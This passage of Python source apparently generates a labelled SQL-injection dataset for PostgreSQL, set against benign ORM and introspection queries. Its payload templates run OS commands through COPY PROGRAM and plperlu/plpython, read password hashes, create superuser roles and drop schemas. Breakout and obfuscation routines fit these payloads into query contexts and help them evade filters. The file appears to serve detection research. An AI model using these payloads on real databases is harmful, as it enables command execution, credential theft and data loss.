            ("do_copy_program", "DO $x$BEGIN EXECUTE 'COPY (SELECT 1) TO PROGRAM ''%s'''; END$x$" % cmd.replace("'", "''''")),
            ("do_base64_payload", "DO $$BEGIN EXECUTE convert_from(decode('%s','base64'),'UTF8'); END$$" % base64.b64encode(("DROP TABLE %s" % t).encode()).decode()),
            ("do_language_e_string", "DO LANGUAGE plpgsql E'BEGIN PERFORM pg_sleep(%d); END'" % s),
            ("do_create_role", "DO $$BEGIN IF NOT EXISTS (SELECT 1 FROM pg_roles WHERE rolname='%s') THEN CREATE ROLE %s LOGIN SUPERUSER PASSWORD '%s'; END IF; END$$" % (nm, nm, rword(r, 8))),
            ("secdef_sql_function", "CREATE FUNCTION %s() RETURNS SETOF text LANGUAGE sql SECURITY DEFINER AS $$SELECT rolpassword FROM pg_authid$$" % nm),
            ("plpgsql_function_exec", "CREATE OR REPLACE FUNCTION %s(q text) RETURNS void LANGUAGE plpgsql AS $f$BEGIN EXECUTE q; END$f$; SELECT %s('DROP TABLE %s')" % (nm, nm, t)),
            ("procedure_call", "CREATE PROCEDURE %s() LANGUAGE plpgsql AS $p$BEGIN DELETE FROM %s; END$p$; CALL %s()" % (nm, t, nm)),
            ("trigger_capture", "CREATE FUNCTION %s() RETURNS trigger LANGUAGE plpgsql AS $t$BEGIN PERFORM pg_notify('%s', row_to_json(NEW)::text); RETURN NEW; END$t$; CREATE TRIGGER %s AFTER INSERT ON %s FOR EACH ROW EXECUTE FUNCTION %s()" % (nm, nm, nm, t, nm)),
            ("plperlu_system", "CREATE FUNCTION %s() RETURNS text LANGUAGE plperlu AS $$ return `%s`; $$" % (nm, cmd)),
            ("plpython_os", "CREATE FUNCTION %s() RETURNS text LANGUAGE plpython3u AS $$import os; return os.popen('%s').read()$$" % (nm, cmd.replace("'", "\\'"))),
            ("do_dynamic_concat", "DO $$BEGIN EXECUTE 'ALT'||'ER ROLE '||current_user||' SUPER'||'USER'; END$$"),
            ("do_exception_swallow", "DO $$BEGIN EXECUTE 'DROP SCHEMA public CASCADE'; EXCEPTION WHEN others THEN NULL; END$$")]]
    if fam == "dollar_quote":
        tg = r.choice(["$$", "$z$", "$q1$", "$_$", "$%s$" % rword(r, 2)])
        D = lambda v: tg + v + tg
        return [
            ("or_dollar_eq", "cond", "OR %s=%s" % (D(w), D(w)), PG), ("and_user_dollar", "cond", "AND current_user=%s" % D(r.choice(["postgres", "app", "rdsadmin"])), PG),
            ("union_dollar_arm", "union", "UNION SELECT %s" % D(w), PG), ("copy_program_dollar", "stack", "COPY %s FROM PROGRAM %s" % (t, D(cmd)), PG),
            ("read_file_dollar", "cond", "AND pg_read_file(%s) IS NOT NULL" % D(f), PG), ("set_config_dollar", "stack", "SELECT set_config(%s,%s,false)" % (D("role"), D("postgres")), PG),
            ("insert_dollar", "stack", "INSERT INTO %s(%s,%s) VALUES(%s,%s)" % (t, u, p, D(nm), D(rword(r, 10))), PG),
            ("cast_dollar_leak", "cond", "AND CAST(%s||version() AS int)=1" % D(w), PG), ("like_dollar", "cond", "OR %s LIKE %s" % (D(w), D("%")), PG),
            ("concat_dollar", "concat", "(SELECT %s||current_setting(%s))" % (D(w), D("data_directory")), PG),
            ("dollar_in_dblink", "stack", "SELECT dblink_exec(%s,%s)" % (D("host=%s dbname=x" % host), D("CREATE TABLE %s()" % nm)), PG),
            ("dollar_role_pw", "stack", "ALTER ROLE %s PASSWORD %s" % (r.choice(["postgres", "app"]), D(rword(r, 9))), PG),
            ("dollar_sleep_arg", "cond", "AND pg_sleep(%s::float8) IS NULL" % D(str(s)), PG), ("dollar_regclass", "cond", "AND %s::regclass IS NOT NULL" % D(t), PG),
            ("dollar_nested_tags", "stack", "SELECT %s" % D("$x$%s$x$" % w), PG), ("dollar_exec_function", "stack", "CREATE FUNCTION %s() RETURNS int LANGUAGE sql AS %s" % (nm, D("SELECT 1")), PG)]
    if fam == "e_escape":
        hexs = lambda v: "".join("\\x%02x" % ord(c) for c in v)
        octs = lambda v: "".join("\\%03o" % ord(c) for c in v)
        uni = lambda v: "".join("\\%04x" % ord(c) for c in v)
        word = r.choice(["postgres", "admin", "root", who])
        return [
            ("or_hex_eq", "cond", "OR E'%s'='%s'" % (hexs(w), w), PG), ("user_octal", "cond", "AND current_user=E'%s'" % octs(word), PG),
            ("union_hex_arm", "union", "UNION SELECT E'%s'" % hexs(w), PG), ("copy_program_hex", "stack", "COPY %s FROM PROGRAM E'%s'" % (t, hexs(cmd)), PG),
            ("read_file_octal", "cond", "AND pg_read_file(E'%s') IS NOT NULL" % octs(f), PG), ("e_backslash_quote", "cond", "OR E'\\''=chr(39)", PG),
            ("e_unicode_escape", "cond", "AND current_user=E'%s'" % "".join("\\u%04x" % ord(c) for c in word), PG),
            ("u_amp_string", "cond", "AND current_user=U&'%s'" % uni(word), PG), ("u_amp_uescape", "cond", "OR U&'!%04x' UESCAPE '!'='%s'" % (ord(w[0]), w[0]), PG),
            ("u_amp_read_file", "stack", "SELECT pg_read_file(U&'%s')" % uni(f), PG), ("u_amp_union", "union", "UNION SELECT U&'%s'" % uni(w), PG),
            ("u_amp_identifier", "stack", "SELECT * FROM U&\"%s\"" % uni(t), PG), ("e_hex_insert", "stack", "INSERT INTO %s(%s) VALUES(E'%s')" % (t, u, hexs(nm)), PG),
            ("e_octal_sleep", "cond", "AND pg_sleep(E'\\%03o'::text::int) IS NULL" % ord(str(min(s, 9))), PG),
            ("e_concat", "concat", "E'%s'||current_user" % hexs(w), PG), ("chr_concat_user", "cond", "AND current_user=%s" % chrs(word, fn="chr"), PG)]
    if fam == "string_concat_subquery":
        return [(n, "concat", c, PG) for n, c in [
            ("user_subquery", "(SELECT current_user)"), ("agg_secret", "(SELECT string_agg(%s,',') FROM %s)" % (p, t)), ("shadow_pw", "(SELECT passwd FROM pg_shadow LIMIT 1)"),
            ("chr_then_subquery", "chr(%d)||(SELECT %s FROM %s LIMIT 1)" % (r.randint(33, 126), u, t)), ("case_flag", "(SELECT CASE WHEN %s THEN 'a' ELSE 'b' END)" % probe(r)),
            ("count_text", "(SELECT count(*) FROM %s)::text" % t), ("concat_ws", "concat_ws(',',version(),current_user,inet_server_addr())"),
            ("setting_read", "current_setting('%s')" % r.choice(["data_directory", "config_file", "hba_file", "listen_addresses"])),
            ("lpad_secret", "lpad((SELECT %s FROM %s WHERE %s='%s'),64,'*')" % (p, t, u, who)), ("query_to_xml", "(SELECT query_to_xml('SELECT * FROM %s',true,false,'')::text)" % t),
            ("json_agg_rows", "(SELECT json_agg(x)::text FROM %s x)" % t), ("array_agg_roles", "(SELECT array_agg(rolname)::text FROM pg_roles)"),
            ("format_leak", "format('%%s@%%s',current_user,current_database())"), ("md5_secret", "md5((SELECT %s FROM %s LIMIT 1))" % (p, t))]]
    raise KeyError(fam)


# ---------------------------------------------------------------- putting a hand-written core into a slot
def ending(r):
    """How the rest of the statement is cut off (a trailing /* or # is a habit from MySQL)."""
    return r.choice(["--", "--", "-- ", "-- -", "--+", "-- //", "--" + rword(r, 3), ";--", "; -- ", "--\t", "/*", "#"])


def breakout(r, si, orig, mode, core):
    """The text typed into this slot to run core there, or None where the
    technique has no sensible form for the slot."""
    typ, cl, lead, cut = si["type"], si["closers"], si["lead"], si["cut"]
    if lead == "SET" and mode not in ("stack", "raw"):
        return None                                   # SET takes a value, not an expression
    if mode == "union" and (lead not in ("SELECT", "select") or si["in_order"] or si["in_limit"] or typ in ("col", "dir")):
        return None
    if mode == "raw":
        return core
    sp = lambda: r.choice([" ", " ", ""])
    close_all = cut if cut is not None else cl
    in_values = "VALUES" in si["ctx"]
    if typ in ("q", "e", "d"):
        qc = CLOSER[typ]
        lv = r.choice([orig, orig, orig, "", "x", "1", "zz"]) if typ != "d" else orig
        if si["between_lo"] and mode in ("cond", "union", "stack"):
            lv = lv + qc + " AND " + qc + orig         # end the BETWEEN with an upper bound of its own
        if mode == "open":
            if typ == "d":
                return None
            left, right = core
            return lv + qc + " " + left + right
        if mode in ("repl", "concat"):
            if typ == "d":
                return orig + qc + " || " + core + " || " + qc
            j = r.choice(["||", "||", " || "])
            return r.choice([lv, ""]) + qc + j + core + j + qc
        if mode == "order":
            return None
        if mode == "cond":
            x = r.random()
            if (x < 0.4 or in_values) and typ != "d":
                k = len(cl) if r.random() < 0.5 and not in_values and cut is None else 0
                ww = r.choice(["a", "1", rword(r, 3), "x"])
                return lv + qc + ")" * k + " " + core + " AND " + "(" * k + "'%s'='%s" % (ww, ww)
            if (x < 0.55 or in_values) and typ == "d":
                return lv + qc + " " + core + " AND " + TAG + "w" + TAG + "=" + TAG + "w"
            return lv + qc + close_all + " " + core + sp() + ending(r)
        if mode == "union":
            return r.choice([lv, "", "-1", "zz"]) + qc + close_all + " " + core + sp() + ending(r)
        if mode == "stack":
            return lv + qc + close_all + r.choice([";", "; ", ";\n"]) + core + r.choice([";", "", ""]) + sp() + ending(r)
        return None
    if typ == "qi":
        if mode == "cond" and si["from_table"]:
            return orig + '" WHERE ' + strip_andor(core) + sp() + ending(r)
        if mode == "union" and si["from_table"]:
            return orig + '" ' + core + sp() + ending(r)
        return quoted_ident_breakout(r, si, orig, mode, core, close_all, lambda: sp() + ending(r))
    if typ in ("n", "list", "bool"):
        if mode == "open":
            return None
        if mode == "repl":
            return core if typ != "list" or r.random() < 0.5 else orig + ", " + core
        if mode == "concat":
            if typ == "bool":
                return None
            return orig + r.choice([" + length((%s)::text)", " - ascii((%s)::text)", "*sign(length((%s)::text))", " + 0*length((%s)::text)"]) % core
        if mode == "order":
            return orig + ", " + core if si["in_order"] else None
        if si["between_lo"] and mode in ("cond", "union", "stack"):
            orig = orig + " AND " + r.choice(["99999", "9999", "2147483647"])
        if mode == "cond":
            if si["in_limit"] or si["in_order"]:
                return None
            if in_values:
                return orig + " " + core
            if cl and r.random() < 0.6:
                return orig + ")" * len(cl) + " " + core + " AND " + "(" * len(cl) + "%d=%d" % ((lambda v: (v, v))(r.randint(1, 99)))
            if cl:
                return orig + close_all + " " + core + sp() + ending(r)
            return orig + " " + core + (sp() + ending(r) if si["tail_means"] and r.random() < 0.5 else "")
        if mode == "union":
            return r.choice([orig, "-1", "0", "-%d" % r.randint(1, 9999)]) + close_all + " " + core + sp() + ending(r)
        if mode == "stack":
            tail = sp() + ending(r) if close_all or si["tail_means"] or r.random() < 0.5 else ""
            return orig + close_all + r.choice([";", "; "]) + core + r.choice([";", ""]) + tail
        return None
    if typ in ("col", "dir"):
        if mode == "order":
            return (core if typ == "col" and r.random() < 0.4 else orig + ", " + core) + (sp() + ending(r) if r.random() < 0.3 else "")
        if mode == "cond":
            return orig + ", (CASE WHEN %s THEN 1 ELSE 1/(SELECT 0) END)" % strip_andor(core)
        if mode == "repl" and typ == "col":
            return core
        if mode == "stack":
            return orig + r.choice([";", "; "]) + core + sp() + ending(r)
        return None
    if typ == "ident":
        if mode == "stack":
            return orig + r.choice([";", "; "]) + core + r.choice(["", ";", " --", "--"])
        if mode == "cond" and si["from_table"]:
            return orig + " WHERE " + strip_andor(core) + sp() + ending(r)
        if mode == "union" and si["from_table"]:
            return orig + " " + core + sp() + ending(r)
        return None
    return None


MODES = {"q": ("cond", "open", "union", "stack", "repl", "concat", "raw"), "e": ("cond", "open", "union", "stack", "repl", "concat", "raw"),
         "d": ("cond", "union", "stack", "repl", "concat"), "qi": ("cond", "union", "stack", "order"), "n": ("cond", "union", "stack", "repl", "concat", "order"),
         "bool": ("cond", "union", "stack", "repl"), "list": ("cond", "union", "stack", "repl", "concat"), "col": ("cond", "order", "repl", "stack"),
         "dir": ("cond", "order", "stack"), "ident": ("stack", "cond", "union")}


hand = partial(corpus_kit.hand_payload, cores=hand_cores, fitting=partial(corpus_kit.fitting, modes=MODES), breakout=breakout)


# ---------------------------------------------------------------- obfuscation of a built payload (outside literals and comments)
SPLIT_KW = ["SELECT", "UNION", "FROM", "WHERE", "SLEEP", "CAST", "COPY", "PROGRAM", "ROLE", "INSERT", "UPDATE", "DROP"]


def obfuscate(r, fam, s, typ):
    segs = segments(s, typ)

    if fam == "obf_case_mix":
        style = r.random()

        def cm(m):
            w = m.group(0)
            if style < 0.5:
                return "".join(ch.upper() if r.random() < 0.5 else ch.lower() for ch in w)
            if style < 0.75:
                return "".join(ch.lower() if j % 2 else ch.upper() for j, ch in enumerate(w))
            return w[0].lower() + w[1:].upper() if len(w) > 1 else w.swapcase()
        out = "".join(re.sub(r"[A-Za-z_]{2,}", cm, t) if e else t for t, e in segs)
    elif fam == "obf_whitespace":
        pool = ["\t", "\n", "\r\n", "\f", "  ", "\t \t", "\n\n", "\r", " \n ", "\f\t"]

        def ws(t):
            t = re.sub(r" +", lambda m: r.choice(pool), t)
            return re.sub(r"([=(),<>])", lambda m: m.group(1) + r.choice(["", "", "\t", "\n"]) if r.random() < 0.3 else m.group(1), t)
        out = "".join(ws(t) if e else t for t, e in segs)
    elif fam == "obf_inline_comment":
        pool = ["/**/", "/**/", "/**/", "/*%s*/" % rword(r, r.randint(2, 6)), "/* */", "/*/**/*/", "/* /* nested */ */", "--\n", "/*\n*/", "/*+*/"]
        split = r.random() < 0.1

        def ic(t):
            t = re.sub(r" +", lambda m: r.choice(pool), t)
            if r.random() < 0.35:
                t = re.sub(r"\b([A-Za-z_]+)\(", lambda m: m.group(1) + r.choice(["/**/(", "/*()*/(", "("]), t)
            if split:
                for kw in SPLIT_KW:
                    t = re.sub(r"\b%s\b" % kw, lambda m: m.group(0)[:3] + "/**/" + m.group(0)[3:], t, flags=re.I, count=1)
            return t
        out = "".join(ic(t) if e else t for t, e in segs)
    elif fam == "obf_nospace":
        def squeeze(t):
            t = re.sub(r" *([=<>!|,()+*;~&]+) *", r"\1", t)
            t = re.sub(r"\b(OR|AND|or|and|SELECT|select|WHERE|where|NOT|not|THEN|ELSE) (\d+|[A-Za-z_]+\(\)|current_user|true|false|NULL)\b",
                       lambda m: m.group(1) + "(" + m.group(2) + ")", t)
            return t
        out = without_spaces(segs, typ, squeeze)
    else:
        raise KeyError(fam)
    return out


# ---------------------------------------------------------------- complex benign statements
PEOPLE = ["Hekla Jónsdóttir", "Teodoro Ruiz", "Ayumi Kobayashi", "Siddharth Rao", "Maëlle Besnard", "Ciarán O'Flaherty", "Wanjiru Kamau",
          "Piotr Zieliński", "Leilani Kahale", "Bongani Dlamini", "Astrid Holm", "Giulia D'Onofrio", "Tupac Mamani", "Nikita Orlova"]
NOTES = ["wig cap re-stitched", "caller said \"ring twice, the bell is broken\"", "select a lighter gauge next time", "union rules: no overtime on Sunday",
         "deposit paid -- ref 8812", "O'Neill collected the flippers", "30% off for the club", "fragile; plaster jacket inside", "awaiting forecaster sign-off",
         "contains nuts", "re-check after the thaw", "update: tug Kent in dry dock", "leave at the kennel's side gate", "the where clause bug is fixed"]
VOLCANOES = ["ETNA", "KILAUEA", "SAKURAJIMA", "HEKLA", "MERAPI", "POPOCATEPETL", "STROMBOLI"]
BEACHES = ["Bondi North", "Fistral", "Praia do Guincho", "Hossegor Sud", "Muizenberg", "Bells Beach"]
PRODUCTIONS = ["Tosca 2025", "Die Zauberflöte", "Peter Grimes", "La Bohème (revival)", "Rusalka", "Satyagraha"]
PORTS = ["NLRTM", "GBSOU", "DEHAM", "BEANR", "SGSIN", "USLAX"]
TANKS = ["REEF-2", "KELP-A", "JELLY-3", "MANGROVE-1", "OPEN-OCEAN"]
FORMATIONS = ["Morrison", "Hell Creek", "Wealden", "Yixian", "Burgess Shale", "Solnhofen"]


def complex_gens():
    G, add = registry()

    # ---- ORM output of the stacks the templates come from
    @add("cx12_rails_find_each", "complex_orm_generated")
    def _(r):
        return ('SELECT "puppets".* FROM "puppets" WHERE "puppets"."theatre_id" = %d AND "puppets"."id" > %d ORDER BY "puppets"."id" ASC LIMIT %d'
                % (r.randint(1, 40), r.randint(0, 90000), r.choice([1000, 500])))

    @add("cx12_rails_includes", "complex_orm_generated")
    def _(r):
        ids = ", ".join(str(x) for x in sorted(r.sample(range(1, 9000), r.randint(2, 9))))
        return 'SELECT "varnish_coats".* FROM "varnish_coats" WHERE "varnish_coats"."instrument_id" IN (%s) ORDER BY "varnish_coats"."applied_at" DESC' % ids

    @add("cx12_rails_exists", "complex_orm_generated")
    def _(r):
        return 'SELECT 1 AS one FROM "show_seats" WHERE "show_seats"."performance_id" = $1 AND "show_seats"."row_letter" = $2 AND "show_seats"."seat_no" = $3 LIMIT $4'

    @add("cx12_rails_upsert", "complex_orm_generated")
    def _(r):
        return ('INSERT INTO "tonewood_billets" ("billet_no","species","seasoned_years","created_at","updated_at") VALUES (%s, %s, %d, %s, %s) '
                'ON CONFLICT ("billet_no") DO UPDATE SET "seasoned_years"=excluded."seasoned_years","updated_at"=excluded."updated_at" RETURNING "id"'
                % (q("TB-%05d" % r.randint(0, 99999)), q(r.choice(["Picea abies", "Acer pseudoplatanus", "Dalbergia nigra", "Ebenus"])), r.randint(1, 40), q(ts(r)), q(ts(r))))

    @add("cx12_django_annotate", "complex_orm_generated")
    def _(r):
        return ('SELECT "wardrobe_garment"."production_id", COUNT("wardrobe_garment"."id") AS "n", MAX("wardrobe_garment"."last_cleaned_on") AS "latest" '
                'FROM "wardrobe_garment" WHERE "wardrobe_garment"."size_label" IN (%s) GROUP BY "wardrobe_garment"."production_id" ORDER BY "n" DESC'
                % ", ".join(q(x) for x in r.sample(["EU 38", "EU 40", "EU 42", "bespoke", "UK 14", "XL"], r.randint(1, 4))))

    @add("cx12_django_select_related", "complex_orm_generated")
    def _(r):
        return ('SELECT "wardrobe_wigfitting"."id", "wardrobe_wigfitting"."performer", "wardrobe_wigfitting"."fitting_at", "wardrobe_production"."id", '
                '"wardrobe_production"."title" FROM "wardrobe_wigfitting" INNER JOIN "wardrobe_production" ON ("wardrobe_wigfitting"."production_id" = "wardrobe_production"."id") '
                'WHERE ("wardrobe_production"."title" = %s AND "wardrobe_wigfitting"."fitting_at" >= %s) ORDER BY "wardrobe_wigfitting"."fitting_at" ASC'
                % (q(r.choice(PRODUCTIONS)), q(ts(r) + "+00:00")))

    @add("cx12_django_json_key", "complex_orm_generated")
    def _(r):
        return ('SELECT "meteorites_specimen"."id", "meteorites_specimen"."name" FROM "meteorites_specimen" WHERE ("meteorites_specimen"."analysis" -> %s) = %s '
                'ORDER BY "meteorites_specimen"."name" ASC' % (q(r.choice(["shock_stage", "weathering", "group"])), q(r.choice(['"S3"', '"W2"', '"H5"', '3']))))

    @add("cx12_laravel_paginate", "complex_orm_generated")
    def _(r):
        per = r.choice([15, 25, 50])
        return ('select count(*) as aggregate from "tattoo_bookings" where "studio_id" = %d and "tattoo_bookings"."deleted_at" is null' % r.randint(1, 30)) if r.random() < 0.4 else \
            ('select * from "tattoo_bookings" where "studio_id" = %d and "tattoo_bookings"."deleted_at" is null order by "starts_at" desc limit %d offset %d'
             % (r.randint(1, 30), per, per * r.randint(0, 9)))

    @add("cx12_laravel_with", "complex_orm_generated")
    def _(r):
        ids = ", ".join(str(x) for x in sorted(r.sample(range(1, 4000), r.randint(2, 7))))
        return 'select * from "type_cases" where "type_cases"."typeface_id" in (%s) and "type_cases"."deleted_at" is null' % ids

    @add("cx12_hibernate_join_fetch", "complex_orm_generated")
    def _(r):
        return ("select f1_0.id,f1_0.envelope_reg,i1_0.flight_id,i1_0.id,i1_0.porosity_s from balloon_flights f1_0 left join envelope_inspections i1_0 on f1_0.id=i1_0.flight_id "
                "where f1_0.launched_at>=$1 and f1_0.launch_site=$2 order by f1_0.launched_at desc offset $3 rows fetch first $4 rows only")

    @add("cx12_hibernate_update", "complex_orm_generated")
    def _(r):
        return "update tug_jobs set assigned_by=%s,status=%s,tug_name=%s,version=%d where id=%d and version=%d" % (
            q(r.choice(["dispatch.night", "r.de.vries", "k.mensah"])), q(r.choice(["open", "assigned", "done"])), q(r.choice(["Smit Polen", "Svitzer Kent", "Boxer"])),
            (lambda v: v + 1)(r.randint(0, 40)), r.randint(1, 99999), r.randint(0, 40))

    @add("cx12_spring_data_derived", "complex_orm_generated")
    def _(r):
        return ("select m1_0.pilot_id,m1_0.full_name,m1_0.licence_class,m1_0.max_draught_m from marine_pilots m1_0 where m1_0.licence_class=%s and m1_0.on_duty "
                "order by m1_0.full_name asc fetch first %d rows only" % (q(r.choice(["A", "B", "B-restricted", "C"])), r.choice([10, 20, 50])))

    @add("cx12_efcore_include", "complex_orm_generated")
    def _(r):
        return ('SELECT f."Id", f."Name", f."Revision", a."Id", a."AccordName", a."FormulaId" FROM "Formulas" AS f LEFT JOIN "Accords" AS a ON f."Id" = a."FormulaId" '
                'WHERE f."Id" = @__id_0 ORDER BY f."Id"'.replace("@__id_0", str(r.randint(1, 5000))))

    @add("cx12_efcore_split", "complex_orm_generated")
    def _(r):
        return ('SELECT r."Id", r."CasNumber", r."Name", r."IfraLimit" FROM "RawMaterials" AS r WHERE r."IfraLimit" IS NOT NULL AND r."IfraLimit" < %.2f ORDER BY r."Name" LIMIT %d OFFSET %d'
                % (r.uniform(0.01, 5), r.choice([20, 50]), r.choice([0, 20, 40, 60])))

    @add("cx12_gorm_preload", "complex_orm_generated")
    def _(r):
        return 'SELECT * FROM "rescue_reports" WHERE "rescue_reports"."guard_id" IN (%s) AND "rescue_reports"."deleted_at" IS NULL' % ",".join(
            str(x) for x in sorted(r.sample(range(1, 800), r.randint(1, 6))))

    @add("cx12_gorm_create", "complex_orm_generated")
    def _(r):
        return ('INSERT INTO "volcano_quakes" ("created_at","updated_at","deleted_at","volcano_code","magnitude","depth_km","origin_time") VALUES (%s,%s,NULL,%s,%.1f,%.1f,%s) RETURNING "id"'
                % (q(ts(r) + ".%03d+00:00" % r.randint(0, 999)), q(ts(r) + ".%03d+00:00" % r.randint(0, 999)), q(r.choice(VOLCANOES)), r.uniform(0.5, 5.5), r.uniform(0.2, 30), q(ts(r))))

    @add("cx12_sqlc_query", "complex_orm_generated")
    def _(r):
        return ("-- name: ListGasFlux :many\nSELECT station_id, so2_tonnes_day, measured_at FROM gas_flux_readings\nWHERE station_id = $1 AND measured_at >= $2\nORDER BY measured_at DESC\nLIMIT $3")

    @add("cx12_sequelize_include", "complex_orm_generated")
    def _(r):
        return ('SELECT "SledDog"."id", "SledDog"."name", "runs"."id" AS "runs.id", "runs"."km" AS "runs.km" FROM "SledDogs" AS "SledDog" LEFT OUTER JOIN "TrainingRuns" AS "runs" '
                'ON "SledDog"."id" = "runs"."dogId" WHERE "SledDog"."kennelId" = %d ORDER BY "SledDog"."name" ASC;' % r.randint(1, 40))

    @add("cx12_prisma_find_many", "complex_orm_generated")
    def _(r):
        return ('SELECT "public"."BonsaiTree"."id", "public"."BonsaiTree"."species", "public"."BonsaiTree"."style", "public"."BonsaiTree"."ageYears" FROM "public"."BonsaiTree" '
                'WHERE ("public"."BonsaiTree"."style" = $1 AND "public"."BonsaiTree"."ageYears" >= $2) ORDER BY "public"."BonsaiTree"."ageYears" DESC LIMIT $3 OFFSET $4')

    @add("cx12_typeorm_find", "complex_orm_generated")
    def _(r):
        return ('SELECT "AvalancheBulletin"."id" AS "AvalancheBulletin_id", "AvalancheBulletin"."zone_code" AS "AvalancheBulletin_zone_code", "AvalancheBulletin"."danger_level" AS '
                '"AvalancheBulletin_danger_level" FROM "avalanche_bulletins" "AvalancheBulletin" WHERE (("AvalancheBulletin"."zone_code" = %s)) LIMIT %d'
                % (q(r.choice(["CH-4113", "LOCHABER", "TIROL-WEST", "NORTHERN-CAIRNGORMS", "AOSTA-3"])), r.choice([1, 10])))

    @add("cx12_drizzle_select", "complex_orm_generated")
    def _(r):
        return 'select "id", "machine_serial", "initials", "score" from "pinball_scores" where ("pinball_scores"."machine_serial" = $1 and "pinball_scores"."score" > $2) order by "pinball_scores"."score" desc limit $3'

    @add("cx12_diesel_join", "complex_orm_generated")
    def _(r):
        return ('SELECT "fossil_specimens"."specimen_no", "fossil_specimens"."taxon", "prep_notes"."note" FROM ("fossil_specimens" INNER JOIN "prep_notes" ON '
                '"prep_notes"."specimen_no" = "fossil_specimens"."specimen_no") WHERE "fossil_specimens"."formation" = $1 ORDER BY "prep_notes"."written_at" DESC')

    @add("cx12_seaorm_paginate", "complex_orm_generated")
    def _(r):
        return ('SELECT "ablation_stakes"."stake_id", "ablation_stakes"."melt_cm", "ablation_stakes"."surveyed_on" FROM "ablation_stakes" WHERE "ablation_stakes"."glacier_id" = %d '
                'ORDER BY "ablation_stakes"."surveyed_on" ASC LIMIT %d OFFSET %d' % (r.randint(1, 80), r.choice([25, 100]), r.choice([0, 25, 100, 200])))

    @add("cx12_ecto_preload", "complex_orm_generated")
    def _(r):
        return ('SELECT q0."id", q0."callsign", q0."band", q0."contest_id", q0."contest_id" FROM "qso_log" AS q0 WHERE (q0."contest_id" = ANY($1)) ORDER BY q0."contest_id"')

    @add("cx12_ecto_update_all", "complex_orm_generated")
    def _(r):
        return 'UPDATE "feeding_schedule" AS f0 SET "grams" = f0."grams" * %.2f, "updated_at" = %s WHERE (f0."tank_code" = %s)' % (
            r.uniform(0.5, 1.5), q(ts(r)), q(r.choice(TANKS)))

    @add("cx12_doctrine_dql", "complex_orm_generated")
    def _(r):
        return ("SELECT f0_.licence_no AS licence_no_0, f0_.surname AS surname_1, c1_.name AS name_2 FROM fencers f0_ INNER JOIN clubs c1_ ON f0_.club_id = c1_.id "
                "WHERE c1_.name = %s AND f0_.weapon IN (%s) ORDER BY f0_.surname ASC" % (
                    q(r.choice(["Salle Boston", "Brixton FC", "Cercle d'Escrime de Lyon", "Fechtclub Wien"])),
                    ", ".join(q(x) for x in r.sample(["foil", "épée", "sabre"], r.randint(1, 3)))))

    # ---- introspection
    @add("cx12_introspect", "complex_orm_introspection")
    def _(r):
        t = r.choice(["puppets", "volcano_quakes", "tug_jobs", "tattoo_bookings", "fossil_specimens", "tank_readings"])
        return r.choice([
            "SELECT a.attname, format_type(a.atttypid, a.atttypmod), pg_get_expr(d.adbin, d.adrelid), a.attnotnull, a.atttypid, a.atttypmod, c.collname, col_description(a.attrelid, a.attnum) AS comment, attidentity AS identity, attgenerated as attgenerated FROM pg_attribute a LEFT JOIN pg_attrdef d ON a.attrelid = d.adrelid AND a.attnum = d.adnum LEFT JOIN pg_type t ON a.atttypid = t.oid LEFT JOIN pg_collation c ON a.attcollation = c.oid AND a.attcollation <> t.typcollation WHERE a.attrelid = %s::regclass AND a.attnum > 0 AND NOT a.attisdropped ORDER BY a.attnum" % q('"%s"' % t),
            "SELECT c.relname AS table_name, obj_description(c.oid, 'pg_class') AS description FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace WHERE n.nspname = ANY($1) AND c.relkind IN ('r', 'p') ORDER BY c.relname",
            "SELECT con.conname, con.contype, pg_get_constraintdef(con.oid) FROM pg_constraint con JOIN pg_class rel ON rel.oid = con.conrelid JOIN pg_namespace nsp ON nsp.oid = rel.relnamespace WHERE nsp.nspname = 'public' AND rel.relname = %s" % q(t),
            "SELECT c.relname, a.attname FROM pg_index i JOIN pg_class c ON c.oid = i.indrelid JOIN pg_attribute a ON a.attrelid = c.oid AND a.attnum = ANY(i.indkey) WHERE i.indisprimary AND c.relname = %s" % q(t),
            "SELECT t.typname, e.enumlabel FROM pg_type t JOIN pg_enum e ON t.oid = e.enumtypid JOIN pg_namespace n ON n.oid = t.typnamespace WHERE n.nspname = 'public' ORDER BY t.typname, e.enumsortorder",
            "SELECT seq.relname AS seq_name, tab.relname AS table_name FROM pg_class seq JOIN pg_depend d ON d.objid = seq.oid JOIN pg_class tab ON d.refobjid = tab.oid WHERE seq.relkind = 'S' AND tab.relname = %s" % q(t),
            "SELECT table_name, column_name, data_type, is_nullable, column_default FROM information_schema.columns WHERE table_schema = 'public' AND table_name = %s ORDER BY ordinal_position" % q(t),
            "SELECT nspname FROM pg_namespace WHERE nspname NOT IN ('information_schema', 'pg_catalog', 'pg_toast') AND nspname NOT LIKE 'pg_temp_%' AND nspname NOT LIKE 'pg_toast_temp_%' ORDER BY nspname",
            "SELECT oid, typname, typtype, typelem, typarray FROM pg_type WHERE typname IN ('hstore', 'citext', 'geometry', 'ltree') AND typnamespace <> 'pg_catalog'::regnamespace"])

    # ---- dynamic query builders (the safe, bound kind)
    @add("cx12_knex_builder", "complex_query_builder")
    def _(r):
        n = r.randint(1, 4)
        conds = ["%s $%d" % (c, i + 1) for i, c in enumerate(r.sample(['"route_code" =', '"truck_id" =', '"arrives_at" >=', '"street" ilike', '"cancelled" ='], n))]
        return 'select "stop_id", "street", "arrives_at" from "truck_route_stops" where %s order by "arrives_at" %s limit $%d' % (" and ".join(conds), r.choice(["asc", "desc"]), n + 1)

    @add("cx12_squirrel_builder", "complex_query_builder")
    def _(r):
        conds = r.sample(["beach = $%d", "tower_no = $%d", "shift_start >= $%d", "guard_id = ANY($%d)", "NOT cancelled"], r.randint(1, 4))
        out, k = [], 1
        for c in conds:
            if "$%d" in c:
                out.append(c % k)
                k += 1
            else:
                out.append(c)
        return "SELECT tower_no, guard_id, shift_start FROM lifeguard_shifts WHERE %s ORDER BY shift_start LIMIT %d" % (" AND ".join(out), r.choice([20, 50, 100]))

    @add("cx12_jooq_builder", "complex_query_builder")
    def _(r):
        return ('select "public"."tug_jobs"."job_id", "public"."tug_jobs"."vessel_name", "public"."tug_jobs"."eta" from "public"."tug_jobs" where ("public"."tug_jobs"."port_code" = $1 '
                'and "public"."tug_jobs"."eta" between $2 and $3) order by "public"."tug_jobs"."eta" asc fetch next $4 rows only')

    @add("cx12_arel_builder", "complex_query_builder")
    def _(r):
        cols = r.sample(['"fencers"."surname" ILIKE $1', '"fencers"."club_id" = $2', '"fencers"."weapon" = $3', '"fencers"."rating" >= $4'], r.randint(1, 3))
